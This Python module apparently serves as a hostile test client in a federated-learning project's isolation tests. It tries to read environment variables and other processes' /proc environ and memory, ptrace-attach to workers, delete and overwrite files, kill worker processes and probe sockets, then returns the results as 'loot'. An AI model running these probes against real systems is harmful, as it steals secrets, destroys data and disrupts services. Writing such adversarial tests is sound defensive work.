"""The ClientApp of a hostile coordinator: runs where the messenger runs, tries everything, and sends home what it got."""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import subprocess
from pathlib import Path
from typing import Any

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

from client.messenger.worker_link import connect
from shared.base.settings import Settings, flatten, unflatten
from shared.protocol.messages import Evaluate, Factors, Join, Label, Train, Update

app = ClientApp()


@app.query()
def query(message: Message, context: Context) -> Message:
    orders = json.loads(str(message.content["orders"]["what"]))
    loot: dict[str, Any] = {}

    def attempt(name: str, action: Any) -> None:
        try:
            loot[name] = str(action())[:20_000]
        except BaseException as error:  # noqa: BLE001 - whatever stops it
            loot[name] = type(error).__name__

    folder = Path(orders["folder"])
    attempt("own environment", lambda: dict(os.environ))
    for name in orders["files"]:
        attempt(f"read {name}", lambda name=name: Path(name).read_bytes()[:200])
        attempt(f"cat {name}", lambda name=name: subprocess.run(["cat", name], capture_output=True, check=True).stdout)
        attempt(f"write {name}", lambda name=name: os.open(name, os.O_WRONLY | os.O_APPEND))
        attempt(f"remove {name}", lambda name=name: Path(name).unlink())
    for place in (folder, folder / "worker", Path(orders["data"])):
        attempt(f"list {place}", lambda place=place: list(place.iterdir()))
    attempt("processes", lambda: list(Path("/proc").iterdir()))
    attempt("connections", lambda: Path("/proc/net/unix").read_text())
    for name, address in orders["helpers"].items():
        attempt(f"ask {name}", lambda address=address: _talk(address))
        attempt(f"write to {name}", lambda address=address: _write(address))
    for number, pid in enumerate(orders["workers"]):
        attempt(f"command line {number}", lambda pid=pid: Path(f"/proc/{pid}/cmdline").read_bytes())
        attempt(f"environment {number}", lambda pid=pid: Path(f"/proc/{pid}/environ").read_bytes())
        attempt(f"memory {number}", lambda pid=pid: os.open(f"/proc/{pid}/mem", os.O_RDONLY))
        attempt(f"maps {number}", lambda pid=pid: Path(f"/proc/{pid}/maps").read_text())
        attempt(f"root {number}", lambda pid=pid: Path(f"/proc/{pid}/root{orders['files'][0]}").read_bytes())
        attempt(f"trace {number}", lambda pid=pid: _trace(pid))
        attempt(f"kill {number}", lambda pid=pid: os.kill(pid, signal.SIGTERM))
    adapter = {name: array.numpy() for name, array in message.content["adapter"].items()}
    attempt("asked", lambda: _ask(context, orders, adapter))
    return Message(RecordDict({"loot": ConfigRecord({"json": json.dumps(loot)})}), reply_to=message)


def _ask(context: Context, orders: dict[str, Any], adapter: Any) -> str:
    """Rounds forwards and backwards, again and again; how many different updates came."""
    link = connect(context)
    known = flatten(Settings())
    values = {key: value for key, value in context.run_config.items() if key in known}
    settings, run = unflatten(values, where="hostile"), str(context.run_config["run"])
    got: set[bytes] = set()
    said: dict[str, int] = {}
    for _ in range(int(orders["times"])):
        for request in (
            Join(run=run, settings=settings),
            Train(run=run, settings=settings, round=1, factors=Factors.BOTH, adapter=adapter),
            Train(run=run, settings=settings, round=2, factors=Factors.BOTH, adapter=adapter),
            Train(run=run, settings=settings, round=1, factors=Factors.BOTH, adapter=adapter),
            Train(run=run, settings=settings, round=99, factors=Factors.BOTH, adapter=adapter),
            Evaluate(run=run, settings=settings, round=2, label=Label.FEDERATED, adapter=adapter),
            Join(run=f"{run}-other", settings=settings),
        ):
            answer = link.ask(request)
            word = str(getattr(answer, "reason", answer.kind))
            said[word] = said.get(word, 0) + 1
            if isinstance(answer, Update):
                got.add(b"".join(answer.change[name].tobytes() for name in sorted(answer.change)))
    return json.dumps({"updates": len(got), "said": said})


def _trace(pid: int) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, 0, 0) != 0:
        raise PermissionError
    return "attached"


def _talk(address: Any) -> bytes:
    with socket.socket(socket.AF_INET if isinstance(address, list) else socket.AF_UNIX) as connection:
        connection.settimeout(10)
        connection.connect(tuple(address) if isinstance(address, list) else address)
        return connection.recv(99)


def _write(address: Any) -> int:
    if isinstance(address, list):
        return socket.socket().sendto(b"x", 0x20000000, tuple(address))
    return socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", address)
